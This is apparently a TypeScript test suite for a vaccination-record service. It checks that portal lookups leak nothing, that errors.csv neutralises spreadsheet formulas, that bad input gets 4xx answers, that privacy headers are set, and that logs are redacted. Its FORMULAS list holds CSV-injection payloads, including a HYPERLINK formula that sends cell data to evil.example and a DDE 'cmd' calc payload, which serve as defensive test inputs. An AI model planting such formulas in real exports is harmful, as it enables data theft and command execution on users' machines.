/**
 * Attacks at the edge (issue 15, items 4, 5, 7, 8, 9), on both databases:
 * the portal's hint as an oracle, spreadsheet formulas in errors.csv, text
 * that used to end in a 500, private answers a browser could keep, and
 * credentials or names in the logs.
 */
import { it } from 'node:test';
import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { describeEachBackend } from '../helpers/db.ts';
import { ADMIN_TOKEN, bearer, doseBody, facilityWithToken, person, skipFloorWaits } from '../helpers/app.ts';
import { buildRuntime, type Runtime } from '../../src/runtime.ts';
import { parseConfig } from '../../src/config.ts';
import { csvCell } from '../../src/records/import/service.ts';
import { importRunnerOf } from '../../src/http/routes/imports.ts';
import { errorForLog } from '../../src/http/edge.ts';

/** The exact strings of the CSV-injection report and the OWASP list (= + - @ TAB CR). */
export const FORMULAS = ['+1+HYPERLINK("http://evil.example/?x="&A1,"klik")', "-2+3+cmd|' /C calc'!A0", '=1+1', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '-1', '+62812'];

describeEachBackend('attacks at the edge', (t) => {
  let rt: Runtime;
  let fac: { code: string; token: string };
  let logged = '';
  const admin = bearer(ADMIN_TOKEN);
  const rare = person({ name: 'Wayan Sudarsana', phone: '0819-0700-1234' }); // a prefix the old invented hints never used
  const abroad = person({ name: 'Ketut Arsana', phone: '+65 9123 4567' }); // a foreign number

  it('starts (logging into a buffer), with people on record', async () => {
    const stream = new Writable({
      write(chunk: Buffer, _enc, done) {
        logged += chunk.toString();
        done();
      },
    });
    const config = parseConfig({ DOSIS_ADMIN_TOKEN: ADMIN_TOKEN, PUBLIC_URL: 'https://dosis.test' });
    rt = await buildRuntime(t.db, config, { level: 'info', stream });
    skipFloorWaits(rt);
    fac = await facilityWithToken(t.db);
    for (const p of [rare, abroad]) {
      const res = await rt.app.inject({ method: 'POST', url: '/api/v1/vaccinations', headers: bearer(fac.token), payload: doseBody(p) });
      assert.equal(res.statusCode, 201, res.body);
    }
  });

  it('portal lookup: a match and a non-match answer alike in every field and length, whatever the number on record (no oracle)', async () => {
    const look = (body: object, ip: string) => rt.app.inject({ method: 'POST', url: '/api/v1/public/lookup', payload: body, remoteAddress: ip });
    const answers = [];
    for (const [i, p] of [rare, abroad].entries()) {
      const hit = await look({ nik: p.nik, birthDate: p.birthDate }, `10.70.${i}.1`);
      const miss = await look({ nik: p.nik, birthDate: '1999-09-09' }, `10.70.${i}.2`);
      for (const r of [hit, miss]) assert.equal(r.statusCode, 202, r.body);
      answers.push(hit.json(), miss.json());
      assert.equal(hit.body.length, miss.body.length, `the same length: ${hit.body} / ${miss.body}`);
    }
    for (const a of answers) {
      assert.deepEqual(Object.keys(a).sort(), ['phoneHint', 'requestId']);
      assert.match(a.phoneHint, /^\*{4}-\*{4}-\*\d{3}$/, `one shape for every hint: ${a.phoneHint}`);
      assert.match(a.requestId, /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    }
    assert.equal(answers[0].phoneHint, '****-****-*234', 'a real hint shows the last three digits only');
    assert.equal(answers[2].phoneHint, '****-****-*567', 'a foreign number looks like any other');
    const again = await look({ nik: rare.nik, birthDate: '1999-09-09' }, '10.70.9.9');
    assert.equal(again.json().phoneHint, answers[1].phoneHint, 'an invented hint is stable for the same request');
  });

  it('errors.csv: no cell starts a formula, for the exact strings of the report (= + - @ TAB CR)', async () => {
    for (const f of FORMULAS) {
      const cell = csvCell(f, ',');
      const unquoted = cell.startsWith('"') ? cell.slice(1) : cell;
      assert.ok(!/^[=+\-@\t\r]/.test(unquoted), `${JSON.stringify(f)} is written ${JSON.stringify(cell)}`);
      assert.ok(unquoted.startsWith("'"), `${JSON.stringify(f)} is neutralised with an apostrophe`);
    }
    // Through a real upload: every rejected cell comes back neutralised.
    const header = 'NIK,Nama,Tanggal Lahir,Jenis Kelamin,No HP,Vaksin,Dosis,Tanggal Vaksinasi,No Batch';
    const rows = FORMULAS.map((f, i) => [`31710117058${String(i).padStart(5, '0')}`, f, '1980-05-17', 'L', f, 'CORONAVAC', '1', '2021-06-10', f].map((c) => `"${c.replace(/"/g, '""')}"`).join(','));
    const up = await rt.app.inject({ method: 'POST', url: '/api/v1/imports', headers: { ...bearer(fac.token), 'content-type': 'text/csv' }, payload: [header, ...rows].join('\r\n') + '\r\n' });
    assert.equal(up.statusCode, 202, up.body);
    await importRunnerOf(rt.app).settled(up.json().id);
    const csv = await rt.app.inject({ method: 'GET', url: `/api/v1/imports/${up.json().id}/errors.csv`, headers: bearer(fac.token) });
    assert.equal(csv.statusCode, 200, csv.body);
    assert.equal(csv.headers['cache-control'], 'no-store', 'errors.csv carries names: never stored');
    const cells = parseCsv(csv.body.replace(/^\uFEFF/, ''));
    assert.ok(cells.length > FORMULAS.length, `every row was rejected: ${csv.body.slice(0, 300)}`);
    for (const row of cells) for (const c of row) assert.ok(!/^[=+\-@\t\r]/.test(c), `a cell that starts a formula: ${JSON.stringify(c)}`);
  });

  it('bad text anywhere is a 4xx naming the field, never a 500', async () => {
    const dose = (over: Record<string, unknown>, lot?: string) =>
      rt.app.inject({ method: 'POST', url: '/api/v1/vaccinations', headers: bearer(fac.token), payload: doseBody({ ...person(), ...over }, lot === undefined ? {} : { lot }) });
    const cases: [string, Promise<{ statusCode: number; body: string; json(): { error: { fields?: { path: string; message: string }[] } } }>, string][] = [
      ['unpaired surrogate in a name', dose({ name: 'Budi \uD800 Santoso' }), 'person.name'],
      ['unpaired surrogate in a lot', dose({}, 'A1\uDC00'), 'lot'],
      ['right-to-left override in a name', dose({ name: 'Budi \u202Eosotnas' }), 'person.name'],
      ['isolate in a name', dose({ name: 'Budi \u2067Santoso\u2069' }), 'person.name'],
      ['zero-width space in a name', dose({ name: 'Bu\u200Bdi Santoso' }), 'person.name'],
      ['zero-width joiner in a name', dose({ name: 'Budi\u200D Santoso' }), 'person.name'],
      [
        'NUL in the name of a public phone correction',
        rt.app.inject({ method: 'POST', url: '/api/v1/public/phone-corrections', payload: { nik: rare.nik, birthDate: rare.birthDate, name: 'Wayan\u0000', newPhone: '0813-1111-2222' }, remoteAddress: '10.77.0.1' }),
        'name',
      ],
      ['NUL in actor', rt.app.inject({ method: 'GET', url: '/api/v1/audit?actor=a%00b', headers: admin }), 'actor'],
      ['NUL in facility', rt.app.inject({ method: 'GET', url: '/api/v1/stats/series?facility=PKM%00', headers: admin }), 'facility'],
      ['NUL in a link token', rt.app.inject({ method: 'GET', url: '/api/v1/public/links/abc%00def' }), 'token'],
    ];
    for (const [what, pending, field] of cases) {
      const r = await pending;
      assert.ok(r.statusCode >= 400 && r.statusCode < 500, `${what}: ${r.statusCode} ${r.body}`);
      const f = r.json().error.fields?.find((x) => x.path === field);
      assert.ok(f, `${what}: the answer names ${field}: ${r.body}`);
      assert.ok(f.message.includes(field), `${what}: the message names the field: ${f.message}`);
    }
    const up = await rt.app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { ...bearer(fac.token), 'content-type': 'text/csv', 'content-disposition': "attachment; filename*=UTF-8''%E0%A4%A.csv" },
      payload: 'NIK,Nama\r\n',
    });
    assert.ok(up.statusCode < 500, `a malformed Content-Disposition is not a 500: ${up.statusCode} ${up.body}`);
  });

  it('every answer with personal data says no-store; API answers nosniff; HSTS over https', async () => {
    const found = (await rt.app.inject({ method: 'GET', url: `/api/v1/people?nik=${rare.nik}`, headers: admin })).json().people[0];
    const id = found.id as string;
    const tl = (await rt.app.inject({ method: 'GET', url: `/api/v1/people/${id}/timeline`, headers: admin })).json();
    const certificateId = JSON.stringify(tl).match(/"certificateId":"([0-9a-f-]{36})"/)?.[1] ?? '00000000-0000-4000-8000-000000000000';
    const urls = [
      `/api/v1/people?nik=${rare.nik}`,
      `/api/v1/people/${id}/timeline`,
      `/api/v1/people/${id}/certificates/${certificateId}/sms`,
      `/api/v1/fhir/Patient/${id}`,
      '/api/v1/phone-corrections',
      '/api/v1/sms/sink',
      '/api/v1/cases',
      '/api/v1/public/certificates',
      '/api/v1/public/links/nope-nope-nope',
    ];
    for (const url of urls) {
      const r = await rt.app.inject({ method: 'GET', url, headers: admin });
      assert.equal(r.headers['cache-control'], 'no-store', `${url} (${r.statusCode})`);
      assert.equal(r.headers['x-content-type-options'], 'nosniff', url);
      assert.match(String(r.headers['strict-transport-security']), /max-age=\d+/, url);
    }
    const lookup = await rt.app.inject({ method: 'POST', url: '/api/v1/public/lookup', payload: { nik: rare.nik, birthDate: '1970-01-01' }, remoteAddress: '10.78.0.1' });
    assert.equal(lookup.headers['cache-control'], 'no-store');
    const trust = await rt.app.inject({ method: 'GET', url: '/api/v1/trust-list' });
    assert.match(String(trust.headers['cache-control']), /public/, 'a public list keeps its own caching');
  });

  it('logs: link tokens in paths are redacted; a database error does not quote the values of its statement', async () => {
    const token = 'Zk9vYmFyLXNlY3JldC1saW5rLXRva2VuLTAx';
    await rt.app.inject({ method: 'GET', url: `/c/${token}` });
    await rt.app.inject({ method: 'GET', url: `/api/v1/public/links/${token}` });
    assert.ok(logged.includes('/api/v1/public/links/[token]'), `request logging is on: ${logged.slice(0, 300)}`);
    assert.ok(!logged.includes(token), 'the link token is not in the log');
    // A real database error about a name (a name where a date belongs): its message and context quote it.
    const e = await t.db.query('SELECT $1::date', ['Wayan Sudarsana']).then(
      () => assert.fail('the statement should fail'),
      (x: unknown) => x,
    );
    const cause = e instanceof Error && e.cause !== undefined ? e.cause : e;
    const raw = JSON.stringify({ ...(cause as object), message: (cause as Error).message });
    assert.ok(raw.includes('Wayan'), `the raw error quotes the name (what used to be logged): ${raw.slice(0, 200)}`);
    const shown = JSON.stringify(errorForLog(e));
    assert.ok(!shown.includes('Wayan'), `the logged error names nobody: ${shown.slice(0, 400)}`);
  });
});

/** A small CSV reader (quotes, doubled quotes, CRLF) for the test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}
